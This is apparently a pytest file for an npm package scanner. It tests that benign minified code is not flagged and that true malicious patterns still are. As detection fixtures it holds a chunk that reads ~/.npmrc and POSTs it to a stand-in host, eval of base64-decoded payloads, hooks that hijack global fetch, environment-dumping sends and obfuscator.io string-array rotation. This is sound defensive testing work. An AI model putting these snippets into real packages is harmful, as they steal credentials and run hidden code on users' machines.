"""False alarms found on real projects (`reviewer report --deep` on the corpus), each beside
the true shape that must still fire: snippets written for the purpose, and the real files in
tests/data/code-fp (see its README)."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
from legit import legit

from reviewer.code import analyze_package, compare_packages, grade
from reviewer.code.compare import unhashed
from reviewer.code.js import js_capabilities
from reviewer.code.model import OBFUSCATED
from reviewer.code.source import TokenSource, js_source
from reviewer.signals.finding import Severity

DATA = Path(__file__).resolve().parents[1] / "data" / "code-fp"


def caps(code: str, tokens: bool = False) -> set[tuple[str, str]]:
    data = code.encode()
    src = TokenSource(data) if tokens else js_source(data)
    return {(c.kind, c.detail) for c in js_capabilities("f.js", src)}


def recorded(path: str) -> bytes:
    file = DATA / path
    if file.exists():
        return file.read_bytes()
    return gzip.decompress((DATA / (path + ".gz")).read_bytes())


def worst(files: dict[str, str], old: dict[str, str] | None = None) -> tuple[Severity | None, list[str]]:
    def package(files: dict[str, str], version: str) -> dict[str, bytes]:
        main = next(iter(files))
        manifest = f'{{"name":"p","version":"{version}","main":"{main}"}}'
        return {"package.json": manifest.encode(), **{k: v.encode() for k, v in files.items()}}

    new = analyze_package(package(files, "1.0.1"))
    changes = compare_packages(analyze_package(package(old, "1.0.0")), new) if old is not None else None
    findings = grade(new, changes)
    return (findings[0].severity if findings else None), [f.summary for f in findings]


# --- rotated string array ------------------------------------------------------------------

NAMES = [f"_0x{n:04x}" for n in range(0x3c10, 0x3c10 + 8)]
ARRAY = ",".join(f"'{n:x}'" for n in range(300))


@pytest.mark.parametrize("code", [
    # terser output of postcss's parser (css-blank-pseudo's dist/cli.cjs): two arrays
    "let i,o=[];for(;e.length&&(i=e[0][0],'space'===i||'comment'===i);)o.push(e.shift());",
    # semver's bin, argparse: taking arguments off one array into another
    "while (argv.length) { const a = argv.shift(); versions.push(argv.shift()) }",
    "result.push(args.shift())",
    # a queue turned round-robin: the same array, but no checksum loop, no IIFE with a number
    "function next(servers) { servers.push(servers.shift()); return servers[0] }",
    "for (let i = 0; i < n; i++) ring.push(ring.shift());",
])
def test_moving_items_between_arrays_is_not_a_rotated_string_array(code: str) -> None:
    assert ("obfuscation", "rotated string array") not in caps(code)
    assert ("obfuscation", "rotated string array") not in caps(code, tokens=True)


@pytest.mark.parametrize("code", [
    # obfuscator.io today: rotate until a parseInt checksum matches
    f"var {NAMES[0]}=[{ARRAY}];(function({NAMES[1]},{NAMES[2]}){{var {NAMES[3]}={NAMES[1]}();while(!![]){{try{{"
    f"var {NAMES[4]}=parseInt({NAMES[3]}[0x1])/0x1+-parseInt({NAMES[3]}[0x2])/0x2;if({NAMES[4]}==={NAMES[2]})break;"
    f"else {NAMES[3]}['push']({NAMES[3]}['shift']());}}catch({NAMES[5]}){{{NAMES[3]}['push']({NAMES[3]}['shift']());"
    f"}}}}}}(function(){{return {NAMES[0]}}},0x4b1e3));",
    # obfuscator.io before 2021: a countdown in a function inside an IIFE called with a number
    f"var {NAMES[0]}=[{ARRAY}];(function({NAMES[1]},{NAMES[2]}){{var {NAMES[3]}=function({NAMES[4]}){{"
    f"while(--{NAMES[4]}){{{NAMES[1]}['push']({NAMES[1]}['shift']());}}}};{NAMES[3]}(++{NAMES[2]});"
    f"}}({NAMES[0]},0x1a2));",
    # the same, minified with dots
    "var a=['x','y','z'];(function(b,c){var d=function(e){while(--e){b.push(b.shift())}};d(++c)})(a,418);",
    # the count written as an expression (obfuscator.io's numbersToExpressions)
    "var a=['x','y','z'];(function(b,c){var d=function(e){while(--e){b.push(b.shift())}};d(++c)})(a,-0x1b3*0x5+0x2c1);",
    # after a long file of ordinary pushes (an appended payload)
    "var q=[];" + "q.push(1);" * 600 + f"(function({NAMES[1]},{NAMES[2]}){{while(--{NAMES[2]}){{"
    f"{NAMES[1]}['push']({NAMES[1]}['shift']());}}}}({NAMES[0]},0x1a2));",
])
def test_obfuscator_io_rotation_is_still_found(code: str) -> None:
    assert ("obfuscation", "rotated string array") in caps(code)
    assert ("obfuscation", "rotated string array") in caps(code, tokens=True)


@pytest.mark.parametrize("path", ["css-blank-pseudo@3.0.3/dist/cli.cjs", "semver@7.8.6/bin/semver.js"])
def test_real_minified_bundle_and_cli_are_not_obfuscated(path: str) -> None:
    data = recorded(path)
    assert b".push(e.shift())" in data or b"versions.push(argv.shift())" in data
    found = js_capabilities(path, js_source(data))
    assert not [c for c in found if c.kind == "obfuscation" and c.detail in OBFUSCATED], found


def test_minified_bundle_added_in_an_upgrade_is_not_newly_obfuscated() -> None:
    """css-blank-pseudo 3.0.2 -> 3.0.3 had been critical: "dist/cli.cjs carries 83 KB of newly
    added obfuscated code"."""
    bundle = recorded("css-blank-pseudo@3.0.3/dist/cli.cjs").decode()
    severity, summaries = worst({"dist/cli.cjs": bundle}, {"dist/cli.cjs": "module.exports = 1;\n"})
    assert severity is None or severity < Severity.HIGH, summaries
    assert not any("obfuscated" in s for s in summaries), summaries


# --- the whole environment -----------------------------------------------------------------

@pytest.mark.parametrize("code", [
    "const nodeEnv = config.define?.['process.env.NODE_ENV'] || JSON.stringify(process.env.NODE_ENV || config.mode);",
    "const d = { 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV || mode) };",
    "JSON.stringify(process.env['DEBUG'])",
])
def test_stringifying_one_variable_is_not_the_whole_environment(code: str) -> None:
    assert ("credentials", "the whole environment") not in caps(code)


@pytest.mark.parametrize("code", [
    "send(JSON.stringify(process.env));",
    "body: JSON.stringify(process.env, null, 2)",
    "req.write(JSON.stringify({ ...process.env }));",
])
def test_stringifying_the_environment_is_still_found(code: str) -> None:
    assert ("credentials", "the whole environment") in caps(code)


# --- decoded code run ----------------------------------------------------------------------

# es-module-lexer inside vite's bundle: the WebAssembly shipped as base64 is decoded a few
# hundred bytes from an unrelated `(0,eval)(A)` that reads string literals
LEXER = ("const E=()=>{return A='AGFzbQEAAAABKwhgAX8Bf2AEf39/fwBgAAF/YAAAYAF/AGADf39/AX9gAX8AYAJ/fwF/',"
         "typeof Buffer<'u'?Buffer.from(A,'base64'):Uint8Array.from(atob(A),A=>A.charCodeAt(0))};"
         "function parse(s){const r=[];r.push({n:k(s)});return r}"
         "function k(A){try{return(0,eval)(A)}catch(A){}}")


def test_eval_beside_an_unrelated_decode_is_not_decoded_code() -> None:
    found = caps(LEXER)
    assert ("dynamic-code", "eval") in found
    assert not any(k == "dynamic-code" and "decoded" in d for k, d in found), found


def test_real_es_module_lexer_eval_is_not_decoded_code() -> None:
    data = legit("es-module-lexer@1.7.0").files["dist/lexer.cjs"]
    assert b"(0,eval)(A)" in data and b"base64" in data
    found = {(c.kind, c.detail) for c in js_capabilities("dist/lexer.cjs", js_source(data))}
    assert not any(k == "dynamic-code" and "decoded" in d for k, d in found), found


@pytest.mark.parametrize("code", [
    "function run(s){ var c = Buffer.from(s, 'base64').toString(); eval(c); }",
    "function e(r){return Buffer.from(r,'hex').toString()} function go(x){ eval(e(x)) }",
    "(0, eval)(atob(payload));",
    "!function(){var a=atob(p);var b=a.split('').reverse().join('');new Function(b)()}();",
    "function f(p){ let code = ''; code += atob(p); return vm.runInThisContext(code) }",
])
def test_code_decoded_then_run_is_still_found(code: str) -> None:
    found = caps(code)
    assert any(k == "dynamic-code" and d.endswith("of decoded code") for k, d in found), found


# --- hooks on global APIs ------------------------------------------------------------------

@pytest.mark.parametrize("code", [
    # lru-cache: `self` is a parameter, and `-=` replaces nothing
    "const del = (self, node) => { const hit = node.value; self[LENGTH] -= hit.length; self[CACHE].delete(hit.key) }",
    # commander, html-minifier-terser: `var self = this`
    "Command.prototype.option = function (name, fn) { var self = this, o = 1; self[name] = fn; };",
    "TokenChain.prototype.add = function (tokens) { var self = this; tokens.forEach(function (key) { self[key] = []; }); };",
    # clean-css: a local variable named fetch
    "function load(uri) { var fetch; fetch = isHttp(uri) ? http.get : https.get; fetch(uri, cb); }",
    "module.exports = function (fetch) { fetch = fetch || defaultFetch; return fetch; };",
    # sprintf-js: exporting to the browser under a plain name
    "window['sprintf'] = sprintf; window['vsprintf'] = vsprintf;",
])
def test_locals_named_like_globals_are_not_hooks(code: str) -> None:
    assert not {k for k, _ in caps(code)} & {"runtime-hook"}, caps(code)


@pytest.mark.parametrize(("code", "detail"), [
    ("const o = self.fetch; self.fetch = async (...a) => o(...a);", "global fetch/XMLHttpRequest"),
    ("const o = fetch; fetch = function (...a) { return o(...a) };", "global fetch"),
    ("window[atob('ZmV0Y2g=')] = function (u) { return steal(u) };", "global fetch (name built at run time)"),
    ("globalThis['fe' + 'tch'] = async (u) => steal(u);", "global fetch (name built at run time)"),
    ("window['fetch'] = function (u) { return steal(u) };", "global fetch"),
])
def test_hooks_of_global_apis_are_still_found(code: str, detail: str) -> None:
    assert ("runtime-hook", detail) in caps(code)


def test_assignment_under_an_unreadable_computed_name_is_no_finding() -> None:
    """core-js's define-global-property (`globalThis[key] = value`): no finding, not even low;
    the same with the key spelled out (`atob`) is a hook, high."""
    plain = {"index.js": "module.exports = function (key, value) { globalThis[key] = value; return value; };\n"}
    assert worst(plain) == (None, [])
    spelled = {"index.js": "globalThis[atob('ZmV0Y2g=')] = async function (u) { return send(u) };\n"}
    severity, summaries = worst(spelled)
    assert severity is not None and severity >= Severity.HIGH, summaries


@pytest.mark.parametrize("path", [
    "lru-cache@6.0.0/index.js", "html-minifier-terser@6.1.0/src/tokenchain.js",
    "core-js@3.51.0/internals/define-global-property.js", "clean-css@5.3.3/lib/reader/load-remote-resource.js",
])
def test_real_files_once_called_hooks_yield_no_finding(path: str) -> None:
    data = recorded(path).decode()
    severity, summaries = worst({path.split("/", 1)[1]: data})
    assert not any("global" in s or "hook" in s for s in summaries), summaries
    assert severity is None or severity <= Severity.MODERATE, summaries


def test_a_method_named_fetch_is_not_a_network_call() -> None:
    assert ("network", "fetch") not in caps("class Loader { async fetch(path, base) { return read(path) } }")
    assert ("network", "fetch") in caps("class Loader { async load(u) { return fetch(u) } }")


# --- A->B with content-hashed chunk names --------------------------------------------------

CHUNK = ("import https from 'node:https';\nconst fn = new Function('a', body);\n"
         "export const env = JSON.stringify(process.env.NODE_ENV);\n"
         "export function get(u) { return https.get(u) }\n")


def test_hashed_names() -> None:
    assert unhashed("dist/node/chunks/dep-BK3b2jBa.js") == "dist/node/chunks/dep-*.js"
    assert unhashed("dist/chunks/cli-api.DqsSTaIi.js") == "dist/chunks/cli-api.*.js"
    assert unhashed("dist/index-browser.js") == "dist/index-browser.js"
    assert unhashed("cjs/react-dom.production.js") == "cjs/react-dom.production.js"


def test_renamed_chunk_brings_nothing_new() -> None:
    """vite 5.4.20 -> 5.4.21: the same code in `dep-BK3b2jBa.js` instead of `dep-CDnG8rE7.js`
    had been "newly reads credential material … and newly decodes hidden code", critical."""
    old = {"index.js": "import './chunks/dep-CDnG8rE7.js';\n", "chunks/dep-CDnG8rE7.js": CHUNK}
    new = {"index.js": "import './chunks/dep-BK3b2jBa.js';\n", "chunks/dep-BK3b2jBa.js": CHUNK + "// 5.4.21\n"}
    severity, summaries = worst(new, old)
    assert severity is None or severity < Severity.MODERATE, summaries
    assert not any("new" in s for s in summaries), summaries


def test_new_file_with_a_capability_no_file_had_is_still_new() -> None:
    """A chunk that newly reads `.npmrc` and sends it: new to the package, wherever it sits."""
    old = {"index.js": "import './chunks/dep-CDnG8rE7.js';\n", "chunks/dep-CDnG8rE7.js": CHUNK}
    stealer = ("import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';\n"
               "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
               "fetch('https://collect.example.invalid/', { method: 'POST', body: t });\n")
    new = {"index.js": "import './chunks/dep-BK3b2jBa.js';\n", "chunks/dep-BK3b2jBa.js": CHUNK + stealer}
    severity, summaries = worst(new, old)
    assert severity is Severity.CRITICAL, summaries
    assert summaries[0].startswith("chunks/dep-BK3b2jBa.js newly reads credential material"), summaries


def test_obfuscated_chunk_renamed_is_not_newly_obfuscated_but_a_new_one_is() -> None:
    obfuscated = (f"var {NAMES[0]}=[{ARRAY}];(function({NAMES[1]},{NAMES[2]}){{var {NAMES[3]}=function({NAMES[4]}){{"
                  f"while(--{NAMES[4]}){{{NAMES[1]}['push']({NAMES[1]}['shift']());}}}};{NAMES[3]}(++{NAMES[2]});"
                  f"}}({NAMES[0]},0x1a2));" + "".join(f"var {a}={b};" for a, b in zip(NAMES, NAMES[1:], strict=False)) * 40)
    old = {"index.js": "require('./lic-Ab12Cd34.js');\n", "lic-Ab12Cd34.js": obfuscated}
    renamed = {"index.js": "require('./lic-Zz98Yy76.js');\n", "lic-Zz98Yy76.js": obfuscated}
    _, summaries = worst(renamed, old)
    assert not any("newly added obfuscated" in s for s in summaries), summaries
    added = {"index.js": "require('./lic-Ab12Cd34.js');require('./x.js');\n", "lic-Ab12Cd34.js": obfuscated,
             "x.js": obfuscated.replace("0x1a2", "0x1a3")}
    severity, summaries = worst(added, old)
    assert severity is Severity.CRITICAL and any("x.js carries" in s and "newly added obfuscated" in s
                                                 for s in summaries), summaries


def test_a_local_self_elsewhere_does_not_hide_a_hook_of_the_global_one() -> None:
    """`var self = this` inside some constructor says nothing about `self` at the top level."""
    code = ("function Q() { var self = this; self.items = []; }\n"
            "const o = self.fetch; self.fetch = async (...a) => o(...a);\n")
    assert ("runtime-hook", "global fetch/XMLHttpRequest") in caps(code)


def test_code_decoded_far_away_by_a_decoding_function_then_run() -> None:
    decoder = "function decode(s) { return Buffer.from(s, 'base64').toString(); }\n"
    filler = "".join(f"function f{i}(a) {{ return a + {i}; }}\n" for i in range(120))
    code = decoder + filler + "const code = decode(blob);\neval(code);\n"
    assert len(filler) > 2000
    assert ("dynamic-code", "eval of decoded code") in caps(code)


@pytest.mark.parametrize(("code", "whole"), [
    ("spawn(cmd, args, { cwd, env: process.env });", False),
    ("dotenv.populate({ processEnv: process.env, parsed });", False),
    ("run({ childEnv: process.env, environment: process.env })", False),
    ("post(url, { host: os.hostname(), data: process.env });", True),
])
def test_the_environment_handed_on_is_not_the_environment_collected(code: str, whole: bool) -> None:
    assert (("credentials", "the whole environment") in caps(code)) is whole
